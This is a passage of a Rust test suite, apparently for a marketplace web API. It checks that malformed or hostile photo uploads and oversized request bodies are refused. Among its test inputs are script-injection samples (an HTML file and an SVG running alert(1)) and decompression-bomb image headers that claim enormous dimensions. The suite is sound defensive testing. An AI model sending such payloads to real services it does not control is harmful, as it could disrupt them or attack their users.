    let bomb_over = flat(7000, 6000); // 42 MP: refused from its header
    let mut broken_png = png.clone();
    let middle = broken_png.len() / 2;
    broken_png[middle..middle + 16].copy_from_slice(&[0xAB; 16]);
    let mut broken_jpeg = jpeg.clone();
    let n = broken_jpeg.len();
    broken_jpeg[n / 3..n - 2].fill(0xFF);
    let six_mb: Vec<u8> = [png.as_slice(), &vec![0u8; 6 << 20]].concat();

    // (what, photos as sent, expected: None = posted, Some(message) = refused with it)
    let cases: Vec<(&str, Value, Option<String>)> = vec![
        (
            "a PNG declared as JPEG (the content decides; it is re-encoded anyway)",
            json!([data_url("image/jpeg", &png)]),
            None,
        ),
        ("a JPEG named .png", json!([{"data": data_url("image/png", &jpeg), "name": "salon.png"}]), None),
        ("a WebP declared as GIF", json!([data_url("image/gif", &webp)]), None),
        ("a bare base64 PNG", json!([b64(&png)]), None),
        (
            "text declared as PNG",
            json!([{"data": data_url("image/png", b"hello, this is not a photo"), "name": "notes.png"}]),
            Some(unsupported("notes.png")),
        ),
        (
            "HTML declared as JPEG",
            json!([{"data": data_url("image/jpeg", b"<html><script>alert(1)</script></html>"), "name": "me.jpg"}]),
            Some(unsupported("me.jpg")),
        ),
        (
            "an SVG with a script",
            json!([{"data": data_url("image/svg+xml", br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#),
                "name": "logo.svg"}]),
            Some(unsupported("logo.svg")),
        ),
        (
            "a PDF declared as PNG",
            json!([{"data": data_url("image/png", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj"), "name": "menu.png"}]),
            Some(unsupported("menu.png")),
        ),
        (
            "an animated GIF",
            json!([{"data": data_url("image/gif", &animated_gif()), "name": "dance.gif"}]),
            Some(unsupported("dance.gif")),
        ),
        (
            "an animated PNG",
            json!([{"data": data_url("image/png", &apng()), "name": "dance.png"}]),
            Some("File dance.png is animated; please upload a still photo.".into()),
        ),
        (
            "an animated WebP",
            json!([{"data": data_url("image/webp", &animated_webp()), "name": "dance.webp"}]),
            Some("File dance.webp is animated; please upload a still photo.".into()),
        ),
        (
            "a truncated PNG",
            json!([{"data": data_url("image/png", &png[..png.len() / 2]), "name": "cut.png"}]),
            Some("File cut.png is damaged or incomplete.".into()),
        ),
        (
            "a PNG cut after its header",
            json!([{"data": data_url("image/png", &png[..40]), "name": "cut.png"}]),
            Some("File cut.png is damaged or incomplete.".into()),
        ),
        (
            "a truncated JPEG",
            json!([{"data": data_url("image/jpeg", &jpeg[..jpeg.len() / 3]), "name": "cut.jpg"}]),
            Some("File cut.jpg is damaged or incomplete.".into()),
        ),
        (
            "a truncated WebP",
            json!([{"data": data_url("image/webp", &webp[..webp.len() / 2]), "name": "cut.webp"}]),
            Some("File cut.webp is damaged or incomplete.".into()),
        ),
        (
            "a PNG with corrupt data",
            json!([{"data": data_url("image/png", &broken_png), "name": "bad.png"}]),
            Some("File bad.png is damaged or incomplete.".into()),
        ),
        (
            "a JPEG with corrupt data",
            json!([{"data": data_url("image/jpeg", &broken_jpeg), "name": "bad.jpg"}]),
            Some("File bad.jpg is damaged or incomplete.".into()),
        ),
        (
            "only a PNG signature",
            json!([data_url("image/png", b"\x89PNG\r\n\x1a\n")]),
            Some("File photo 1 is damaged or incomplete.".into()),
        ),
        (
            "base64 that is not",
            json!([{"data": "data:image/png;base64,@@@not base64@@@", "name": "x.png"}]),
            Some("File x.png is damaged or incomplete.".into()),
        ),
        (
            "a data URL without base64",
            json!([{"data": "data:image/png,rawbytes", "name": "x.png"}]),
            Some(unsupported("x.png")),
        ),
        ("an empty photo", json!([""]), Some(unsupported("photo 1"))),
        (
            "a PNG claiming 30000 x 30000",
            json!([{"data": data_url("image/png", &png_claiming(30_000, 30_000)), "name": "bomb.png"}]),
            Some("File bomb.png is larger than 40 megapixels.".into()),
        ),
        (
            "a PNG claiming 4294967295 x 4294967295",
            json!([{"data": data_url("image/png", &png_claiming(u32::MAX, u32::MAX)), "name": "bomb.png"}]),
            None,
        ),
        (
            "a PNG claiming 0 x 0",
            json!([{"data": data_url("image/png", &png_claiming(0, 0)), "name": "empty.png"}]),
            None,
        ),
        (
            "a JPEG claiming 65500 x 65500",
            json!([{"data": data_url("image/jpeg", &jpeg_claiming(65_500, 65_500)), "name": "bomb.jpg"}]),
            Some("File bomb.jpg is larger than 40 megapixels.".into()),
        ),
        (
            "a 42-megapixel PNG of a few kilobytes",
            json!([{"data": data_url("image/png", &bomb_over), "name": "flat.png"}]),
            Some("File flat.png is larger than 40 megapixels.".into()),
        ),
        ("a 35-megapixel PNG of a few kilobytes (shrunk, not refused)", json!([data_url("image/png", &bomb_ok)]), None),
        (
            "a photo over 5 MB",
            json!([{"data": data_url("image/png", &six_mb), "name": "big.png"}]),
            Some("File big.png is larger than 5 MB.".into()),
        ),
        (
            "four photos on a three-photo package",
            json!([PNG_1X1, PNG_1X1, PNG_1X1, PNG_1X1]),
            Some("Your Premium package allows only 3 photo(s).".into()),
        ),
        ("a photo without data", json!([{"name": "x.png"}]), Some(String::new())),
        (
            "a photo name with a control character and markup",
            json!([{"data": data_url("image/png", b"nope"), "name": "<b>x</b>\u{7}.png"}]),
            Some(unsupported("<b>x</b>.png")),
        ),
    ];
    for (what, images, expected) in cases {
        let mut body = listing_body();
        body["images"] = images;
        let started = std::time::Instant::now();
        let a = suite
            .raw("POST", "/api/services", Some(&token), Some("application/json"), body.to_string().into_bytes())
            .await;
        let took = started.elapsed();
        let what = format!("photo: {what}");
        if !suite.not_broken(&what, &a) {
            continue;
        }
        if took > Duration::from_secs(15) {
            suite.problem(&what, &a, &format!("took {took:?}"));
        }
        match expected {
            None if what.contains("claiming") => {
                // Nonsense sizes: refused, whatever the words.
                if a.status != StatusCode::BAD_REQUEST
                    || !a.json_or_null()["message"].as_str().unwrap_or_default().starts_with("File ")
                {
                    suite.problem(&what, &a, "should be refused naming the file");
                }
            }
            None => {
                if a.status != StatusCode::CREATED {
                    suite.problem(&what, &a, "should be posted");
                } else {
                    let thumbnail = a.json_or_null()["media"][0]["thumbnail"].as_str().unwrap_or_default().to_owned();
                    let stored = suite.raw("GET", &thumbnail, None, None, vec![]).await;
                    if stored.header("content-type") != "image/webp" {
                        suite.problem(&what, &stored, "not stored as WebP");
                    }
                }
            }
            Some(message) if message.is_empty() => suite.refused(&what, &a),
            Some(message) => suite.refused_with(&what, &a, StatusCode::BAD_REQUEST, &message),
        }
    }
    let tried = suite.tried;
    eprintln!("bad input (photos): {tried} inputs tried, {} problems", suite.problems.len());
    assert!(suite.problems.is_empty(), "{} problems:\n{}", suite.problems.len(), suite.problems.join("\n"));
    product.stop().await;
}

// ---- oversized bodies -----------------------------------------------------------------------

/// Sends only the head of a request declaring a body of `length` bytes, and reads the answer.
async fn head_only(
    addr: std::net::SocketAddr,
    method: &str,
    path: &str,
    token: Option<&str>,
    length: usize,
) -> (String, Value) {
    let auth = token.map(|t| format!("Authorization: Bearer {t}\r\n")).unwrap_or_default();
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: mtaani\r\nContent-Type: application/json\r\n{auth}\
         Content-Length: {length}\r\n\r\n"
    );
    exchange(addr, head.as_bytes()).await
}

/// Writes `request` on a new connection and reads one answer: its status line and JSON body.
async fn exchange(addr: std::net::SocketAddr, request: &[u8]) -> (String, Value) {
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    let read = async {
        loop {
            let n = stream.read(&mut buf).await.unwrap_or(0);
            if n == 0 {
                break;
            }
            answer.extend_from_slice(&buf[..n]);
            let text = String::from_utf8_lossy(&answer);
            if let Some((head, body)) = text.split_once("\r\n\r\n")
                && let Some(len) = head
                    .lines()
                    .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length: ").map(str::to_owned))
                && body.len() >= len.trim().parse::<usize>().unwrap_or(0)
            {
                break;
            }
        }
    };
    if tokio::time::timeout(Duration::from_secs(5), read).await.is_err() {
        return ("no answer within 5 s: the body was waited for".into(), Value::Null);
    }
    let text = String::from_utf8_lossy(&answer).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    (head.lines().next().unwrap_or_default().to_owned(), serde_json::from_str(body).unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_bodies_are_refused_before_they_are_read() {
    let product = start_product(TestDb::sqlite).await;
    let token = product.sign_in(SELLER.0, SELLER.1).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(gateway::serve(listener, product.app.clone(), async {
        let _ = stopped.await;
    }));

    let small = gateway::SMALL_BODY;
    let routes: Vec<(&str, &str, usize)> = vec![
        ("POST", "/api/services", gateway::MAX_BODY),
        ("PUT", "/api/service/anything", gateway::MAX_BODY),
        ("POST", "/api/register", small),
        ("POST", "/api/login", small),
        ("POST", "/api/password-reset/request", small),
        ("POST", "/api/password-reset/confirm", small),
        ("POST", "/api/appointments", small),
        ("POST", "/api/appointments/cancel", small),
        ("POST", "/api/contact", small),
        ("POST", "/api/payments", small),
        ("POST", "/api/payments/x/retry", small),
        ("POST", "/api/account/package", small),
        ("POST", "/api/payments/mpesa/callback", 16 * 1024),
    ];
    let mut problems = Vec::new();
    let mut tried = 0;
    for (method, path, limit) in routes {
        for declared in [limit + 1, 10 * limit, 1 << 40] {
            tried += 1;
            let (status, json) = head_only(addr, method, path, Some(&token), declared).await;
            if !status.contains(" 413 ") || json["message"] != mtaani_proto::text::said::too_large().to_string() {
                problems.push(format!("{method} {path} declaring {declared} bytes: {status} {json}"));
            }
        }
    }
    // Without a declared length the body is read up to the limit, and refused there.
    let chunked = |size: usize| {
        let chunk = "x".repeat(size);
        format!(
            "POST /api/contact HTTP/1.1\r\nHost: mtaani\r\nContent-Type: application/json\r\n\
             Transfer-Encoding: chunked\r\n\r\n{size:x}\r\n{chunk}\r\n0\r\n\r\n"
        )
    };
    tried += 1;
    let (status, json) = exchange(addr, chunked(small + 1).as_bytes()).await;
    if !status.contains(" 413 ") || json["message"] != mtaani_proto::text::said::too_large().to_string() {
        problems.push(format!("a chunked body over the limit: {status} {json}"));
    }
    eprintln!("bad input (oversized bodies): {tried} inputs tried, {} problems", problems.len());
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    let _ = stop.send(());
    server.await.unwrap().unwrap();
    product.stop().await;
}
